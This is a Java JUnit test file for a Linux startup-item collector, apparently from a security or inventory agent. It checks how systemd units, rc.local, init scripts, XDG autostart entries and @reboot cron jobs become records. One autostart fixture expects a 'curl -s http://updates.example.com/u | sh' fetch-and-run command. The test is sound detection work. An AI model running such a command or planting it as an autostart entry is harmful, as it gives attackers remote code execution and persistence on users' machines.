package io.agent7.agent.collect.linux;

import static io.agent7.agent.collect.Fields.bool;
import static io.agent7.agent.collect.Fields.has;
import static io.agent7.agent.collect.Fields.only;
import static io.agent7.agent.collect.Fields.text;
import static io.agent7.agent.collect.Fields.texts;
import static org.assertj.core.api.Assertions.assertThat;

import io.agent7.agent.collect.Fields;
import io.agent7.schema.Schema;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.node.ObjectNode;

class StartupItemCollectorTest {

    @RegisterExtension
    final FixtureRoot fixture = new FixtureRoot();

    Path root;
    List<ObjectNode> docs;

    @BeforeEach
    void collect() throws Exception {
        root = fixture.root();
        docs = new StartupItemCollector(Schema.standard(), root).collect();
    }

    private ObjectNode at(String location) {
        return only(docs, "startup_item.location", location);
    }

    @Test
    void everyMechanismContributesItsItems() {
        assertThat(Fields.column(docs, "startup_item.location"))
                .containsExactlyInAnyOrder(
                        "/etc/systemd/system/multi-user.target.wants/ssh.service",
                        "/etc/systemd/system/multi-user.target.wants/web.service",
                        "/etc/systemd/system/multi-user.target.wants/remote-fs.target",
                        "/etc/rc.local",
                        "/etc/init.d/legacy-daemon",
                        "/etc/xdg/autostart/tray.desktop",
                        "/etc/xdg/autostart/hidden.desktop",
                        "/home/alice/.config/autostart/notes.desktop",
                        "/home/bob/.config/autostart/updater.desktop",
                        "/etc/crontab:8",
                        "/var/spool/cron/crontabs/alice:4");
    }

    @Test
    void anEnabledUnitIsItsWantsLinkWithTheCommandItStarts() {
        ObjectNode ssh = at("/etc/systemd/system/multi-user.target.wants/ssh.service");
        assertThat(text(ssh, "startup_item.name")).isEqualTo("ssh.service");
        assertThat(text(ssh, "startup_item.source")).isEqualTo("systemd_unit");
        assertThat(text(ssh, "startup_item.scope")).isEqualTo("machine");
        assertThat(bool(ssh, "startup_item.enabled")).isTrue();
        assertThat(text(ssh, "process.command_line")).isEqualTo("/usr/sbin/sshd -D $SSHD_OPTS");
        assertThat(text(ssh, "user.name")).isEqualTo("root");
        assertThat(bool(ssh, "startup_item.privileged")).isTrue();
        assertThat(text(at("/etc/systemd/system/multi-user.target.wants/web.service"), "user.name"))
                .isEqualTo("www-data");
        assertThat(has(at("/etc/systemd/system/multi-user.target.wants/remote-fs.target"), "process"))
                .isFalse();
    }

    @Test
    void rcLocalCountsOnlyWhenExecutable() throws Exception {
        ObjectNode rcLocal = at("/etc/rc.local");
        assertThat(text(rcLocal, "startup_item.source")).isEqualTo("rc_local");
        assertThat(text(rcLocal, "process.executable")).isEqualTo("/etc/rc.local");
        Files.setPosixFilePermissions(root.resolve("etc/rc.local"), PosixFilePermissions.fromString("rw-r--r--"));
        assertThat(Fields.all(
                        new StartupItemCollector(Schema.standard(), root).collect(), "startup_item.source", "rc_local"))
                .isEmpty();
    }

    @Test
    void anInitScriptStartedInSeveralRunlevelsIsOneItemAndKillLinksAreIgnored() {
        ObjectNode legacy = at("/etc/init.d/legacy-daemon");
        assertThat(text(legacy, "startup_item.source")).isEqualTo("init_d");
        assertThat(text(legacy, "startup_item.name")).isEqualTo("legacy-daemon");
        assertThat(texts(legacy, "process.args")).containsExactly("/etc/init.d/legacy-daemon", "start");
        assertThat(Fields.all(docs, "startup_item.name", "other")).isEmpty();
    }

    @Test
    void xdgAutostartEntriesForEveryoneHaveNoAccount() {
        ObjectNode tray = at("/etc/xdg/autostart/tray.desktop");
        assertThat(text(tray, "startup_item.name")).isEqualTo("Tray Applet");
        assertThat(text(tray, "startup_item.source")).isEqualTo("xdg_autostart");
        assertThat(text(tray, "startup_item.scope")).isEqualTo("machine");
        assertThat(text(tray, "process.command_line"))
                .as("field codes removed")
                .isEqualTo("/usr/bin/tray-app --minimized");
        assertThat(has(tray, "user")).isFalse();
        assertThat(bool(at("/etc/xdg/autostart/hidden.desktop"), "startup_item.enabled"))
                .isFalse();
    }

    @Test
    void xdgAutostartEntriesOfAUserRunAsThatUser() {
        ObjectNode notes = at("/home/alice/.config/autostart/notes.desktop");
        assertThat(text(notes, "startup_item.scope")).isEqualTo("user");
        assertThat(text(notes, "user.name")).isEqualTo("alice");
        assertThat(bool(notes, "startup_item.enabled"))
                .as("X-GNOME-Autostart-enabled=false")
                .isFalse();
        assertThat(text(notes, "process.command_line")).isEqualTo("sync-notes --background");
        ObjectNode updater = at("/home/bob/.config/autostart/updater.desktop");
        assertThat(texts(updater, "process.args"))
                .containsExactly("sh", "-c", "curl -s http://updates.example.com/u | sh");
        assertThat(text(updater, "process.executable")).isEqualTo("/usr/bin/sh");
        assertThat(bool(updater, "startup_item.privileged"))
                .as("bob is in sudo")
                .isTrue();
    }

    @Test
    void rebootCronJobsAreStartupItems() {
        ObjectNode system = at("/etc/crontab:8");
        assertThat(text(system, "startup_item.source")).isEqualTo("cron_reboot");
        assertThat(text(system, "startup_item.scope")).isEqualTo("machine");
        assertThat(text(system, "process.executable")).isEqualTo("/usr/local/bin/on-boot.sh");
        ObjectNode alice = at("/var/spool/cron/crontabs/alice:4");
        assertThat(text(alice, "startup_item.scope")).isEqualTo("user");
        assertThat(text(alice, "user.name")).isEqualTo("alice");
    }

    @ParameterizedTest
    @CsvSource(
            value = {
                "/usr/bin/app %U; /usr/bin/app",
                "app --file %f --icon %i; app --file --icon",
                "app 100%%; app 100%",
                "app %x; app %x",
            },
            delimiter = ';')
    void desktopFieldCodesAreRemoved(String exec, String expected) {
        assertThat(StartupItemCollector.withoutFieldCodes(exec)).isEqualTo(expected);
    }

    @Test
    void aHostWithNothingThatStartsHasNoItems(@TempDir Path empty) {
        assertThat(new StartupItemCollector(Schema.standard(), empty).collect()).isEmpty();
    }
}
